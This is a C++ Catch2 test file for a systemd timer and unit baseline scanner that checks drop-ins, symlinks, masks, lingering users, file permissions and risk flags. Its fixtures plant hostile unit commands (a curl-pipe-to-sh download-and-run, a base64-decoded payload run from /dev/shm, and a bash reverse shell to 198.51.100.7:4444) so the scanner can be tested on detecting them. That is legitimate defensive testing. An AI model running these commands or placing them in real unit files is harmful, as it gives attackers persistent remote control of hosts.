// scan() over real unit trees built in temporary directories.
#include <catch2/catch.hpp>

#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>

#include "baseline/sha256.h"
#include "jcorr/baseline/codes.h"
#include "jcorr/baseline/scanner.h"
#include "unit/baseline/temp_tree.h"

namespace jcorr::baseline {

using testing::TempTree;

namespace {

const UnitRecord& unit(const Baseline& b, std::string_view scope, std::string_view name) {
  const UnitRecord* u = b.find(scope, name);
  INFO("unit " << scope << " " << name);
  REQUIRE(u != nullptr);
  return *u;
}

std::vector<std::string> names_in(const Baseline& b, std::string_view scope) {
  std::vector<std::string> out;
  for (const UnitRecord& u : b.units)
    if (u.scope == scope) out.push_back(u.name);
  return out;
}

std::vector<std::string> dropin_paths(const UnitRecord& u) {
  std::vector<std::string> out;
  for (const FileRecord& f : u.dropins) out.push_back(f.path);
  return out;
}

std::vector<std::string> risk_codes(const UnitRecord& u) {
  std::vector<std::string> out;
  for (const Risk& r : u.risks) out.push_back(r.code);
  return out;
}

bool has_problem(const Baseline& b, std::string_view code, std::string_view path) {
  return std::any_of(b.problems.begin(), b.problems.end(),
                     [&](const Problem& p) { return p.code == code && p.path == path; });
}

// A small but complete system: system, global user and per-user units, drop-ins,
// enablement links, a masked unit, a timer with Unit=, a template and an instance.
void build_system(const TempTree& t) {
  t.write("/etc/passwd",
          "root:x:0:0:root:/root:/bin/bash\n"
          "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
          "bob:x:1001:1001::/home/bob:/bin/bash\n");
  t.write("/etc/group", "root:x:0:\nalice:x:1000:\nbob:x:1001:\n");
  t.mkdir("/root", 0700);
  t.mkdir("/home/alice", 0750);
  t.mkdir("/home/bob", 0750);
  t.write("/var/lib/systemd/linger/alice", "");
  t.mkdir("/etc/systemd/system");
  t.mkdir("/usr/lib/systemd/system");

  t.write("/usr/lib/systemd/system/backup.timer",
          "[Unit]\nDescription=Nightly backup\n[Timer]\nOnCalendar=daily\nPersistent=true\n[Install]\n"
          "WantedBy=timers.target\n");
  t.write("/usr/lib/systemd/system/backup.service", "[Service]\nExecStart=/usr/bin/backup --all\n");
  t.write("/etc/systemd/system/backup.timer.d/override.conf", "[Timer]\nOnCalendar=\nOnCalendar=hourly\n");
  t.write("/etc/systemd/system/timer.d/accuracy.conf", "[Timer]\nRandomizedDelaySec=30s\n");
  t.symlink("/etc/systemd/system/timers.target.wants/backup.timer", "/usr/lib/systemd/system/backup.timer");

  t.write("/usr/lib/systemd/system/cleanup.timer", "[Timer]\nOnCalendar=weekly\n");
  t.symlink("/etc/systemd/system/cleanup.timer", "/dev/null");

  t.write("/etc/systemd/system/report.timer", "[Timer]\nOnCalendar=Mon 09:00\nUnit=generate.service\n");
  t.write("/etc/systemd/system/generate.service", "[Service]\nUser=reports\nExecStart=/usr/bin/gen --weekly\n");

  t.write("/usr/lib/systemd/system/sync@.timer", "[Timer]\nOnCalendar=*:0/2\n");
  t.write("/usr/lib/systemd/system/sync@.service", "[Service]\nExecStart=/usr/bin/sync-dir /%I\n");
  t.symlink("/etc/systemd/system/timers.target.wants/sync@home.timer", "/usr/lib/systemd/system/sync@.timer");

  t.mkdir("/usr/lib/systemd/user");
  t.write("/usr/lib/systemd/user/global.timer", "[Timer]\nOnCalendar=daily\n");
  t.write("/usr/lib/systemd/user/global.service", "[Service]\nExecStart=/usr/bin/true\n");

  t.mkdir("/home/alice/.config/systemd/user");
  t.write("/home/alice/.config/systemd/user/mine.timer", "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=30s\n");
  t.write("/home/alice/.config/systemd/user/mine.service",
          "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'\n");
  t.symlink("/home/alice/.config/systemd/user/timers.target.wants/mine.timer", "../mine.timer");
  t.write("/home/bob/.local/share/systemd/user/global.timer.d/later.conf", "[Timer]\nOnCalendar=\nOnCalendar=12:00\n");
}

}  // namespace

TEST_CASE("scan finds system timers with precedence, drop-ins, links, masks and templates", "[baseline][scan]") {
  TempTree t;
  build_system(t);
  const Baseline b = scan(t.root());
  INFO(to_json(b).dump(2));

  CHECK(names_in(b, "system") ==
        std::vector<std::string>{"backup.service", "backup.timer", "cleanup.timer", "generate.service", "report.timer",
                                 "sync@.service", "sync@.timer", "sync@home.service", "sync@home.timer"});

  const UnitRecord& backup = unit(b, "system", "backup.timer");
  CHECK(backup.state == "loaded");
  REQUIRE(backup.fragment);
  CHECK(backup.fragment->path == "/usr/lib/systemd/system/backup.timer");
  CHECK(backup.fragment->resolved == "/usr/lib/systemd/system/backup.timer");
  CHECK(backup.fragment->owner == "root");
  CHECK(backup.fragment->group == "root");
  CHECK(backup.fragment->mode == 0644);
  CHECK(backup.fragment->sha256 ==
        sha256_hex("[Unit]\nDescription=Nightly backup\n[Timer]\nOnCalendar=daily\nPersistent=true\n[Install]\n"
                   "WantedBy=timers.target\n"));
  // Drop-ins apply sorted by file name: the type-wide timer.d/accuracy.conf first.
  CHECK(dropin_paths(backup) == std::vector<std::string>{"/etc/systemd/system/timer.d/accuracy.conf",
                                                         "/etc/systemd/system/backup.timer.d/override.conf"});
  // OnCalendar= in the drop-in resets the list before hourly is added.
  CHECK(backup.directives.at("OnCalendar") == std::vector<std::string>{"hourly"});
  CHECK(backup.directives.at("Persistent") == std::vector<std::string>{"true"});
  CHECK(backup.directives.at("RandomizedDelaySec") == std::vector<std::string>{"30s"});
  CHECK(backup.directives.at("Description") == std::vector<std::string>{"Nightly backup"});
  REQUIRE(backup.enabled_by.size() == 1);
  CHECK(backup.enabled_by[0].path == "/etc/systemd/system/timers.target.wants/backup.timer");
  CHECK(backup.enabled_by[0].target == "/usr/lib/systemd/system/backup.timer");
  CHECK(backup.enabled_by[0].unit == "timers.target");
  CHECK(backup.enabled_by[0].kind == "wants");
  CHECK(backup.triggers == "backup.service");
  CHECK(backup.risks.empty());
  CHECK(unit(b, "system", "backup.service").triggered_by == std::vector<std::string>{"backup.timer"});
  CHECK(unit(b, "system", "backup.service").exec.at("ExecStart")[0].argv ==
        std::vector<std::string>{"/usr/bin/backup", "--all"});

  const UnitRecord& cleanup = unit(b, "system", "cleanup.timer");
  CHECK(cleanup.state == "masked");
  CHECK(cleanup.masked_by == "/etc/systemd/system/cleanup.timer");
  CHECK_FALSE(cleanup.fragment);
  CHECK(cleanup.shadowed == std::vector<std::string>{"/usr/lib/systemd/system/cleanup.timer"});
  CHECK(cleanup.triggers.empty());

  const UnitRecord& report = unit(b, "system", "report.timer");
  CHECK(report.triggers == "generate.service");
  CHECK(unit(b, "system", "generate.service").directives.at("User") == std::vector<std::string>{"reports"});
  CHECK(b.find("system", "report.service") == nullptr);

  const UnitRecord& instance = unit(b, "system", "sync@home.timer");
  REQUIRE(instance.fragment);
  CHECK(instance.fragment->path == "/usr/lib/systemd/system/sync@.timer");
  CHECK(instance.triggers == "sync@home.service");
  CHECK(instance.enabled_by.size() == 1);
  CHECK(risk_codes(instance) == std::vector<std::string>{"timer.frequent"});
  CHECK(unit(b, "system", "sync@home.service").fragment->path == "/usr/lib/systemd/system/sync@.service");
  CHECK(unit(b, "system", "sync@.timer").triggers == "sync@.service");
}

TEST_CASE("scan covers global and per-user unit paths, lingering included", "[baseline][scan]") {
  TempTree t;
  build_system(t);
  const Baseline b = scan(t.root());
  INFO(to_json(b).dump(2));

  CHECK(b.lingering == std::vector<std::string>{"alice"});
  CHECK(names_in(b, "user") == std::vector<std::string>{"global.service", "global.timer"});
  CHECK(names_in(b, "user:alice") == std::vector<std::string>{"mine.service", "mine.timer"});
  CHECK(names_in(b, "user:bob") == std::vector<std::string>{"global.service", "global.timer"});
  CHECK(names_in(b, "user:root").empty());
  CHECK(names_in(b, "user:daemon").empty());

  const UnitRecord& mine = unit(b, "user:alice", "mine.timer");
  CHECK(mine.fragment->path == "/home/alice/.config/systemd/user/mine.timer");
  CHECK(mine.enabled_by.size() == 1);
  CHECK(mine.enabled_by[0].target == "../mine.timer");
  CHECK(risk_codes(mine) == std::vector<std::string>{"timer.frequent", "user.lingering"});
  CHECK(risk_codes(unit(b, "user:alice", "mine.service")) == std::vector<std::string>{"exec.download-and-run"});

  // Bob's drop-in in ~/.local/share overrides the global timer for him only.
  const UnitRecord& bobs = unit(b, "user:bob", "global.timer");
  CHECK(bobs.directives.at("OnCalendar") == std::vector<std::string>{"12:00"});
  CHECK(dropin_paths(bobs) ==
        std::vector<std::string>{"/home/bob/.local/share/systemd/user/global.timer.d/later.conf"});
  CHECK(unit(b, "user", "global.timer").directives.at("OnCalendar") == std::vector<std::string>{"daily"});
  CHECK(unit(b, "user", "global.timer").risks.empty());
}

TEST_CASE("scan without /etc/passwd takes homes from /home and /root", "[baseline][scan]") {
  TempTree t;
  t.write("/home/carol/.config/systemd/user/c.timer", "[Timer]\nOnCalendar=daily\n");
  t.write("/root/.local/share/systemd/user/r.timer", "[Timer]\nOnCalendar=daily\n");
  const Baseline b = scan(t.root());
  CHECK(has_problem(b, codes::kPasswdUnavailable, "/etc/passwd"));
  CHECK(names_in(b, "user:carol") == std::vector<std::string>{"c.service", "c.timer"});
  CHECK(unit(b, "user:carol", "c.service").state == "not-found");
  CHECK(names_in(b, "user:root") == std::vector<std::string>{"r.service", "r.timer"});
}

TEST_CASE("scan resolves symlinks inside the root", "[baseline][scan]") {
  TempTree t;
  t.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  t.write("/etc/systemd/system/abs.timer", "[Timer]\nOnCalendar=daily\n");
  t.symlink("/etc/systemd/system/abs.service", "/etc/passwd");
  t.write("/etc/systemd/system/esc.timer", "[Timer]\nOnCalendar=daily\n");
  t.symlink("/etc/systemd/system/esc.service", "../../../../../../../../../../etc/passwd");
  t.symlink("/etc/systemd/system/loop.timer", "loop.timer");
  t.symlink("/etc/systemd/system/broken.timer", "/opt/gone.timer");
  t.write("/opt/real/linked.timer", "[Timer]\nOnCalendar=daily\n");
  t.symlink("/opt/alias", "real");
  t.symlink("/etc/systemd/system/linked.timer", "/opt/alias/linked.timer");
  const Baseline b = scan(t.root());
  INFO(to_json(b).dump(2));

  for (const char* name : {"abs.service", "esc.service"}) {
    const UnitRecord& u = unit(b, "system", name);
    REQUIRE(u.fragment);
    CHECK(u.fragment->resolved == "/etc/passwd");
    CHECK(u.fragment->sha256 == sha256_hex("root:x:0:0:root:/root:/bin/bash\n"));
  }
  CHECK(unit(b, "system", "esc.service").fragment->link_target == "../../../../../../../../../../etc/passwd");
  CHECK(has_problem(b, codes::kFsSymlinkLoop, "/etc/systemd/system/loop.timer"));
  CHECK(has_problem(b, codes::kFsBrokenSymlink, "/etc/systemd/system/broken.timer"));
  CHECK(b.find("system", "loop.timer") == nullptr);
  CHECK(b.find("system", "broken.timer") == nullptr);
  const UnitRecord& linked = unit(b, "system", "linked.timer");
  CHECK(linked.fragment->resolved == "/opt/real/linked.timer");
  CHECK(linked.fragment->link_target == "/opt/alias/linked.timer");
}

TEST_CASE("scan reports and skips files it cannot use", "[baseline][scan]") {
  TempTree t;
  t.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nnot a passwd line\n");
  t.write("/etc/systemd/system/huge.timer", "[Timer]\n# " + std::string((1u << 20) + 10, 'x') + "\n");
  t.write("/etc/systemd/system/junk.timer", std::string("\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0", 20));
  t.mkdir("/etc/systemd/system/dir.timer");
  t.write("/etc/systemd/system/ok.timer", "[Timer]\nOnCalendar=daily\n");
  t.write("/etc/systemd/system/ok.timer.d/bad.conf", std::string("\x01\x02\x03", 3));
  t.mkdir("/etc/systemd/system/ok.timer.d/sub.conf");
  t.write("/etc/systemd/system/ok.timer.d/good.conf", "[Timer]\nPersistent=yes\n");
  t.write("/etc/systemd/system/ok.timer.d/ignored.txt", "[Timer]\nPersistent=no\n");
  t.write("/etc/systemd/system/syntax.timer", "[Timer]\nOnCalendar=daily\n[Timer\nPersistent=yes\n");
  t.write("/etc/systemd/system/syntax.service", "[Service]\nExecStart=\"/bin/echo open\n");
  const Baseline b = scan(t.root());
  INFO(to_json(b).dump(2));

  CHECK(has_problem(b, codes::kFsTooLarge, "/etc/systemd/system/huge.timer"));
  CHECK(has_problem(b, codes::kFsBinary, "/etc/systemd/system/junk.timer"));
  CHECK(has_problem(b, codes::kFsNotRegular, "/etc/systemd/system/dir.timer"));
  CHECK(has_problem(b, codes::kFsBinary, "/etc/systemd/system/ok.timer.d/bad.conf"));
  CHECK(has_problem(b, codes::kFsNotRegular, "/etc/systemd/system/ok.timer.d/sub.conf"));
  CHECK(has_problem(b, codes::kPasswdMalformed, "/etc/passwd"));
  for (const char* name : {"huge.timer", "junk.timer", "dir.timer"}) CHECK(b.find("system", name) == nullptr);

  const UnitRecord& ok = unit(b, "system", "ok.timer");
  CHECK(dropin_paths(ok) == std::vector<std::string>{"/etc/systemd/system/ok.timer.d/good.conf"});
  CHECK(ok.directives.at("Persistent") == std::vector<std::string>{"yes"});

  const UnitRecord& syntax = unit(b, "system", "syntax.timer");
  CHECK(syntax.state == "bad-setting");
  REQUIRE(syntax.diagnostics.size() == 1);
  CHECK(syntax.diagnostics[0].code == codes::kSectionInvalid);
  CHECK(syntax.diagnostics[0].path == "/etc/systemd/system/syntax.timer");
  CHECK(syntax.diagnostics[0].line == 3);
  CHECK(syntax.triggers == "syntax.service");
  const UnitRecord& syntax_service = unit(b, "system", "syntax.service");
  CHECK(syntax_service.state == "loaded");  // a bad first word is dropped with a warning
  REQUIRE(syntax_service.diagnostics.size() == 1);
  CHECK(syntax_service.diagnostics[0].code == codes::kExecSyntax);
  CHECK(syntax_service.diagnostics[0].line == 2);
}

TEST_CASE("scan reports unreadable files", "[baseline][scan]") {
  TempTree t;
  t.chmod("/", 0755);
  t.write("/etc/systemd/system/secret.timer", "[Timer]\nOnCalendar=daily\n", 0000);
  t.write("/etc/systemd/system/open.timer", "[Timer]\nOnCalendar=daily\n");
  t.write("/etc/systemd/system/open.timer.d/x.conf", "[Timer]\nPersistent=true\n");
  t.chmod("/etc/systemd/system/open.timer.d", 0000);
  Baseline b;
  if (::geteuid() != 0) {
    b = scan(t.root());
  } else {
    // Root reads everything: scan from a child that has dropped to nobody.
    int fds[2];
    REQUIRE(::pipe(fds) == 0);
    const pid_t pid = ::fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {
      ::close(fds[0]);
      if (::setgid(65534) != 0 || ::setuid(65534) != 0) ::_exit(3);
      const std::string json = to_json(scan(t.root())).dump();
      std::size_t done = 0;
      while (done < json.size()) {
        const ssize_t n = ::write(fds[1], json.data() + done, json.size() - done);
        if (n <= 0) ::_exit(4);
        done += static_cast<std::size_t>(n);
      }
      ::_exit(0);
    }
    ::close(fds[1]);
    std::string json;
    char buffer[4096];
    for (ssize_t n; (n = ::read(fds[0], buffer, sizeof buffer)) > 0;) json.append(buffer, static_cast<std::size_t>(n));
    ::close(fds[0]);
    int status = 0;
    ::waitpid(pid, &status, 0);
    REQUIRE(WIFEXITED(status));
    REQUIRE(WEXITSTATUS(status) == 0);
    auto parsed = parse_baseline(json);
    REQUIRE(parsed);
    b = std::move(*parsed);
  }
  INFO(to_json(b).dump(2));
  CHECK(has_problem(b, codes::kFsUnreadable, "/etc/systemd/system/secret.timer"));
  CHECK(has_problem(b, codes::kFsUnreadable, "/etc/systemd/system/open.timer.d"));
  CHECK(b.find("system", "secret.timer") == nullptr);
  CHECK(unit(b, "system", "open.timer").dropins.empty());
}

TEST_CASE("scan flags unit files and directories writable by non-root users", "[baseline][scan]") {
  TempTree t;
  t.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nmallory:x:1000:1000::/home/mallory:/bin/sh\n");
  t.mkdir("/etc/systemd/system");
  t.write("/etc/systemd/system/open.timer", "[Timer]\nOnCalendar=daily\n", 0666);
  t.write("/etc/systemd/system/group.timer", "[Timer]\nOnCalendar=daily\n", 0664);
  t.write("/etc/systemd/system/fine.timer", "[Timer]\nOnCalendar=daily\n", 0644);
  t.mkdir("/usr/lib/systemd/system", 0777);
  t.write("/usr/lib/systemd/system/indir.timer", "[Timer]\nOnCalendar=daily\n", 0644);
  t.write("/home/mallory/.config/systemd/user/own.timer", "[Timer]\nOnCalendar=daily\n", 0644);
  t.write("/home/mallory/.config/systemd/user/wide.timer", "[Timer]\nOnCalendar=daily\n", 0666);
  const bool can_chown = ::geteuid() == 0;
  if (can_chown) {
    t.write("/etc/systemd/system/owned.timer", "[Timer]\nOnCalendar=daily\n", 0644);
    t.chown("/etc/systemd/system/owned.timer", 1000, 1000);
  }
  const Baseline b = scan(t.root());
  INFO(to_json(b).dump(2));

  CHECK(risk_codes(unit(b, "system", "open.timer")) == std::vector<std::string>{"file.writable", "file.writable"});
  CHECK(risk_codes(unit(b, "system", "group.timer")) == std::vector<std::string>{"file.writable"});
  CHECK(unit(b, "system", "fine.timer").risks.empty());
  const UnitRecord& indir = unit(b, "system", "indir.timer");
  REQUIRE(risk_codes(indir) == std::vector<std::string>{"file.writable", "file.writable"});
  CHECK(indir.risks[0].reason == "directory /usr/lib/systemd/system is group-writable (0777, gid 0)");
  CHECK(indir.risks[1].reason == "directory /usr/lib/systemd/system is world-writable (0777)");
  // In a home the user owns the files by design; only world-writable ones are flagged.
  CHECK(unit(b, "user:mallory", "own.timer").risks.empty());
  CHECK(risk_codes(unit(b, "user:mallory", "wide.timer")) == std::vector<std::string>{"file.writable"});
  if (can_chown) {
    const UnitRecord& owned = unit(b, "system", "owned.timer");
    CHECK(owned.fragment->owner == "mallory");
    CHECK(risk_codes(owned) == std::vector<std::string>{"file.owner-non-root", "file.writable"});
    CHECK(owned.risks[0].reason == "unit file /etc/systemd/system/owned.timer is owned by uid 1000 (mallory), not root");
  }
}

TEST_CASE("scan flags risky commands and frequent timers", "[baseline][scan]") {
  TempTree t;
  t.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
  t.write("/etc/systemd/system/a.timer", "[Timer]\nOnCalendar=minutely\n");
  t.write("/etc/systemd/system/a.service",
          "[Service]\nExecStartPre=/bin/sh -c 'echo cHduZWQ= | base64 -d > /dev/shm/.k'\n"
          "ExecStart=/dev/shm/.k\nExecStopPost=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n");
  t.write("/etc/systemd/system/b.timer", "[Timer]\nOnCalendar=*:0/5\nOnBootSec=10s\n");
  t.write("/etc/systemd/system/b.service", "[Service]\nExecStart=/usr/bin/find /tmp -mtime +7 -delete\n");
  const Baseline b = scan(t.root());
  INFO(to_json(b).dump(2));

  CHECK(risk_codes(unit(b, "system", "a.timer")) == std::vector<std::string>{"timer.frequent"});
  CHECK(unit(b, "system", "a.timer").risks[0].reason == "OnCalendar=minutely fires every 1min, more often than every 5min");
  CHECK(risk_codes(unit(b, "system", "a.service")) ==
        std::vector<std::string>{"exec.encoded", "exec.hidden-path", "exec.reverse-shell", "exec.temp-path"});
  // Near misses: exactly every five minutes, a one-shot boot delay, and a command that
  // only mentions /tmp.
  CHECK(unit(b, "system", "b.timer").risks.empty());
  CHECK(unit(b, "system", "b.service").risks.empty());
}

TEST_CASE("scan output is deterministic and round-trips through JSON", "[baseline][scan]") {
  TempTree t;
  build_system(t);
  const Baseline first = scan(t.root());
  const Baseline second = scan(t.root());
  CHECK(to_json(first).dump() == to_json(second).dump());
  const auto parsed = parse_baseline(to_json(first).dump(2));
  REQUIRE(parsed);
  CHECK(*parsed == first);
}

TEST_CASE("scan of a root that cannot be opened", "[baseline][scan]") {
  TempTree t;
  const Baseline b = scan(t.host("/missing"));
  REQUIRE(b.problems.size() == 1);
  CHECK(b.problems[0].code == codes::kRootUnusable);
  CHECK(b.units.empty());
}

}  // namespace jcorr::baseline
